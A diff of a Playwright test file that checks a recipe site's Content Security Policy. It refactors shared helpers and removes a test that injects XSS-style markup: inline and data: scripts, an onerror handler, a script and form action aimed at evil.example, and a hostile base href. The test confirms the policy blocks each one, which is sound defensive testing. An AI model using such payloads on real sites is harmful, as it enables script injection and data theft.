@@ -1,39 +1,11 @@
-import { createServer } from 'node:http';
-import type { AddressInfo } from 'node:net';
-import { expect, type Page, test as plain } from '@playwright/test';
-import { addSignedInAccount, expectMessage, useOwnClient } from './account.ts';
+import { expect } from '@playwright/test';
+import { expectMessage, useOwnClient } from './account.ts';
 import { fillRecipe, newTitle, test as onAdminSite, upload } from './admin-forms.ts';
 import { test as base, main, open, openHeaderLink } from './journey.ts';
-import { keepToasts } from './toasts.ts';
+import { look, type Watch, watchRejections } from './security.ts';
 
-type Watch = { rejected: string[] };
-
-/** Collects what the Content-Security-Policy blocks, from the browser's event and its console. */
-async function watch(page: Page): Promise<string[]> {
-  const rejected: string[] = [];
-  await page.exposeBinding('tellRefused', (_source, text: string) => rejected.push(text));
-  await page.addInitScript(() =>
-    addEventListener('securitypolicyviolation', ({ violatedDirective, blockedURI, sample }) =>
-      Object(window).tellRefused(`${location.href}: ${violatedDirective} ${blockedURI} ${sample}`),
-    ),
-  );
-  page.on('console', (message) => {
-    if (/content.security.policy/i.test(message.text())) rejected.push(message.text());
-  });
-  return rejected;
-}
-
-const fixture = async ({ page }: { page: Page }, use: (rejected: string[]) => Promise<void>) =>
-  use(await watch(page));
-const test = base.extend<Watch>({ rejected: fixture });
-const adminTest = onAdminSite.extend<Watch>({ rejected: fixture });
-
-/** Scrolls through a page: the lower part loads only then. */
-async function look(page: Page, path: string): Promise<void> {
-  await open(page, path);
-  await page.evaluate(() => scrollTo({ top: document.body.scrollHeight, behavior: 'instant' }));
-  await page.waitForLoadState('networkidle');
-}
+const test = base.extend<Watch>({ rejected: watchRejections });
+const adminTest = onAdminSite.extend<Watch>({ rejected: watchRejections });
 
 test('the Content Security Policy blocks nothing that visitors see and do @js @desktop', async ({
   page,
@@ -65,23 +37,6 @@ test('the Content Security Policy blocks nothing that visitors see and do @js @d
   expect(rejected).toEqual([]);
 });
 
-test('the Content Security Policy blocks nothing that signed-in users do @js @desktop', async ({
-  page,
-  rejected,
-}) => {
-  await useOwnClient(page);
-  await addSignedInAccount(page);
-  await open(page, '/recipes/tiramisu');
-  await keepToasts(page);
-  await page.getByRole('button', { name: 'Add to Favorites' }).click();
-  await expectMessage(page, 'Added to favorite recipes');
-  // The toast's styles come as a file.
-  await expect(page.locator('[data-sonner-toaster]')).toHaveCSS('position', 'fixed');
-  for (const path of ['', '/profile', '/email', '/password', '/sessions', '/data'])
-    await look(page, `/account${path}`);
-  expect(rejected).toEqual([]);
-});
-
 adminTest(
   'nor of what admins do, with uploads, dialogs and toasts @js @desktop',
   async ({ page, rejected }) => {
@@ -103,52 +58,3 @@ adminTest(
     expect(rejected).toEqual([]);
   },
 );
-
-plain.describe('injected markup', () => {
-  plain('does not run, style, or lead away @js @desktop', async ({ page }) => {
-    const rejected = await watch(page);
-    const injected = `<script>window.hacked = 'script'</script>
-      <script nonce="">window.hacked = 'nonce'</script>
-      <img src="/no-such.png" alt="" onerror="window.hacked = 'handler'">
-      <script src="https://evil.example/hack.js"></script>
-      <script src="data:text/javascript,window.hacked='data'"></script>
-      <object data="/favicon.svg"></object><iframe src="/login"></iframe>
-      <style>body { --hacked: yes }</style><p id="styled" style="--hacked: yes"></p>
-      <base href="https://evil.example/">
-      <form id="away" action="https://evil.example/"><input name="a"></form>`;
-    await page.route('**/chefs', async (route) => {
-      const response = await route.fetch();
-      const body = (await response.text()).replace('<main', `${injected}<main`);
-      await route.fulfill({ response, body });
-    });
-    // React would remove foreign elements.
-    await page.route('**/assets/*.js', (route) => route.abort());
-    await page.goto('/chefs');
-    expect(await page.evaluate(() => Object(window).hacked)).toBeUndefined();
-    const marked = (selector: string) =>
-      page.locator(selector).evaluate((it) => getComputedStyle(it).getPropertyValue('--hacked'));
-    expect(await marked('body')).toBe('');
-    expect(await marked('#styled')).toBe('');
-    expect(await page.evaluate(() => document.baseURI)).toBe(page.url());
-    for (const directive of ['script-src', 'style-src', 'object-src', 'frame-src', 'base-uri'])
-      await expect.poll(() => rejected.join('\n')).toContain(directive);
-    await page.evaluate(() => (document.getElementById('away') as HTMLFormElement).submit());
-    await expect.poll(() => rejected.join('\n')).toContain('form-action');
-  });
-
-  plain(
-    'is no page of ours in the frame of another site @js @desktop',
-    async ({ page, baseURL }) => {
-      const other = createServer((_request, response) =>
-        response.end(`<!DOCTYPE html><iframe src="${baseURL}/login"></iframe>`),
-      ).listen(0, '127.0.0.1');
-      await new Promise((resolve) => other.once('listening', resolve));
-      const { port } = other.address() as AddressInfo;
-      await page.goto(`http://127.0.0.1:${port}/`);
-      await expect
-        .poll(() => page.frames().map((frame) => frame.url()))
-        .toContain('chrome-error://chromewebdata/');
-      other.close();
-    },
-  );
-});
